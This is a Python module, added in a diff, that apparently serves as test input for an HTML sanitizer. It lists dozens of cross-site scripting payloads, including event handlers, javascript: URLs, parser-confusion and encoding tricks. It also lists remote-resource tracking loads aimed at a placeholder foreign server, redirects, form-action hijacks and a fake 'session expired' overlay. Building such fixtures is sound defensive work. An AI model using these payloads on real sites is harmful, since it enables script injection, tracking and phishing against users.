@@ -1,0 +1,98 @@
+"""Texts that try to run something, to call somebody, or to lead the reader away on a careless page. Invented here.
+
+`{there}` is a server that is not ours; `{here}` is ours.
+"""
+
+from __future__ import annotations
+
+SCRIPTS = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC={there}/a.js></SCRIPT>",
+    "<scr<script>ipt>alert(2)</scr</script>ipt>",
+    "<script\x0c>alert(3)</script\x0c>",
+    "<img src=x onerror=alert(4)>",
+    "<img src=x onerror\x0b=alert(5)>",
+    "<img/src=`x`/onerror=alert(6)>",
+    "<body onload=alert(7)><p onmouseover=alert(8)>texte</p>",
+    "<details open ontoggle=alert(9)><summary>voir</summary></details>",
+    "<input autofocus onfocus=alert(10)>",
+    "<video autoplay oncanplay=alert(11)><source src=data:video/mp4,x onerror=alert(12)></video>",
+    "<marquee onstart=alert(13)>va</marquee>",
+    "<div style=animation:a onanimationstart=alert(14)>x</div><style>@keyframes a{{}}</style>",
+    "<select onbeforeinput=alert(15)><option>1</select>",
+    "<xss id=x tabindex=1 onactivate=alert(16)></xss>",
+    "<object data=javascript:alert(17)></object><embed src=javascript:alert(18)>",
+    "<iframe srcdoc='<script>parent.alert(19)</script>'></iframe><iframe src=javascript:alert(20)></iframe>",
+    "<a href=javascript:alert(21)>clic</a><a href='jav&#x09;ascript:alert(22)'>clic</a>",
+    "<a href=data:text/html,<script>alert(23)</script>>clic</a>",
+    "<a href=' &#14; javascript:alert(24)'>clic</a><a xlink:href=javascript:alert(25)>clic</a>",
+    "<button popovertarget=x>b</button><div popover id=x onbeforetoggle=alert(26)>y</div>",
+    "<template><img src=x onerror=alert(27)></template>",
+    "<div><template shadowrootmode=open><script>alert(28)</script></template></div>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(29)>'></noscript>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(30)&gt;'>",
+    "<svg><script>alert(31)</script><a xlink:href='javascript:alert(32)'><text>clic</text></a></svg>",
+    "<svg><animate attributeName=href values=javascript:alert(33)></svg><svg onload=alert(34)>",
+    "<svg><foreignObject><iframe src=javascript:alert(35)></iframe></foreignObject></svg>",
+    "<svg><style><img src=x onerror=alert(36)></style></svg>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(37)>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(38)>",
+    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(39)></style></annotation-xml></math>",
+    "<listing>&lt;img src=x onerror=alert(40)&gt;</listing><xmp><img src=x onerror=alert(41)></xmp>",
+    "<textarea><img src=x onerror=alert(42)></textarea><title><img src=x onerror=alert(43)></title>",
+    "<!--><img src=x onerror=alert(44)>--><!--[if gte IE 4]><script>alert(45)</script><![endif]-->",
+    "<![CDATA[<img src=x onerror=alert(46)>]]><?xml version='1.0'?><?php alert(47)?>",
+    "<p id=a name=b></p><form id=document><input name=body></form><img name=getElementById>",
+    "</div></article></main><script>alert(48)</script>",
+    '"><script>alert(49)</script>',
+    "' autofocus onfocus='alert(50)' x='",
+    "{{{{7*7}}}} {{%% import os %%}} ${{alert(51)}} <%= alert(52) %>",
+    "\u2028<script>alert(53)</script>\u2029\ufeff<img src=x onerror=alert(54)>",
+    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(55)>",
+    "＜script＞alert(56)＜/script＞ %3Cscript%3Ealert(57)%3C/script%3E",
+)
+CALLS = (
+    "<img src={there}/pixel.gif width=1 height=1>",
+    "<img srcset='{there}/a.png 1x, {there}/b.png 2x' src=//127.0.0.1:9/c.png>",
+    "<picture><source srcset={there}/d.webp><img src=data:,></picture>",
+    "<table background={there}/e.gif><tr><td background=//127.0.0.1:9/f.gif>1</table>",
+    "<div style='background:url({there}/g.png)'>x</div><div style=\"background:u\\72l('{there}/h')\">y</div>",
+    "<style>@import '{there}/i.css';body{{background:url({there}/j)}}</style>",
+    "<style>@font-face{{font-family:a;src:url({there}/k)}}*{{font-family:a}}</style>",
+    "<link rel=stylesheet href={there}/l.css><link rel=prefetch href={there}/m>",
+    "<link rel=dns-prefetch href=//x.example><link rel=prerender href={there}/m>",
+    "<link rel=preconnect href={there}><link rel=icon href={there}/n.ico><link rel=modulepreload href={there}/o.js>",
+    "<video poster={there}/p.jpg src={there}/q.mp4 autoplay></video><audio src={there}/r.mp3 autoplay></audio>",
+    "<track src={there}/s.vtt><input type=image src={there}/t.png><object data={there}/u.swf></object>",
+    "<svg><image href={there}/v.png /><use href={there}/w.svg#x /><feImage href={there}/x.png /></svg>",
+    "<svg><style>@import url({there}/y.css)</style></svg><math><mi href={there}/z>x</mi></math>",
+    "<body background={there}/aa.gif><ul style='list-style:url({there}/bb.png)'><li>un</ul>",
+    "<iframe src={there}/cc></iframe><frameset><frame src={there}/dd></frameset><embed src={there}/ee>",
+    "<p style='content:url({there}/ff);cursor:url({there}/gg),auto;border-image:url({there}/hh)'>x</p>",
+    "<img src='cid:absente@ici'><img src='{here}/deconnexion'><img src=/conversation/x><img src=../../piece/0>",
+    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="{there}/ii"/></svg>\'>',
+    "<a ping={there}/jj href={there}/kk>clic</a><area ping={there}/ll><blockquote cite={there}/mm>x</blockquote>",
+    "<html manifest={there}/nn><base href={there}/><img src=relative.png><script src=relative.js></script>",
+    "<meta http-equiv=Content-Security-Policy content='img-src *'><img src={there}/oo>",
+    "<img src='  {there}/pp' lowsrc={there}/qq dynsrc={there}/rr longdesc={there}/ss>",
+    "<img src='h\ttt\np://127.0.0.1:9/tt'><img src='\\\\127.0.0.1:9\\uu'><img src='http:/127.0.0.1:9/vv'>",
+)
+LEADS_AWAY = (
+    "<meta http-equiv=refresh content='0;url={there}/'>",
+    "<meta http-equiv='refresh' content='0; URL=javascript:alert(60)'>",
+    "<base target=_top href={there}/><a href=x>clic</a>",
+    "<form action={there} id=f><button>Se connecter</button></form><input form=f type=submit>",
+    "<form action='/deconnexion' method=post><input name=csrf></form><button formaction={there}>x</button>",
+    "<isindex action={there} prompt=mot-de-passe>",
+    "<a target=_top href={there}>ici</a><area shape=default href={there}>",
+    "<iframe src=/deconnexion></iframe><iframe src={here}/personnes></iframe>",
+    "<object type=text/html data={there}></object><portal src={there}></portal>",
+    "<script>top.location='{there}'</script><body onload=location='{there}'>",
+    "<dialog open><form method=dialog><button>OK</button></form></dialog>",
+    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>Votre session a expiré</div>",
+)
+
+
+def payloads(there: str, here: str) -> list[str]:
+    """All of them, for these two servers."""
+    return [text.format(there=there, here=here) for text in (*SCRIPTS, *CALLS, *LEADS_AWAY)]
